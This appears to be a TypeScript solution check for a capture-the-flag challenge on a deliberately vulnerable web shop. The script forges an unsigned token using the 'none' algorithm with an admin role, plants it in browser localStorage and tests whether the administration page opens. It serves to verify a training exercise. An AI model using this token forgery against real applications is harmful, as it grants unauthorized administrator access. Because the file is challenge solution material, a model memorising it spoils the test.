import { proveInBrowser } from '@fruit/challenge-kit/browser-proof'
import { challenge } from './challenge.ts'

const part = (content: object) => Buffer.from(JSON.stringify(content)).toString('base64url')

export const browserProof = proveInBrowser(challenge, async ({ client, open, page }) => {
  await open('/about')
  await page.locator('h1').first().waitFor()
  // The player writes a forged role into their own browser while the page is open.
  const data = { id: 1, role: 'admin', email: `admin@${client.domain}` }
  const token = `${part({ alg: 'none' })}.${part({ data })}.`
  await page.evaluate((text) => localStorage.setItem('token', text), token)
  await open('/administration')
  const administration = page.getByRole('heading', { name: 'Administration' })
  await administration
    .or(page.getByText('This part of the shop is not for you.'))
    .or(page.locator('mat-grid-tile'))
    .first()
    .waitFor()
  return administration.isVisible()
})
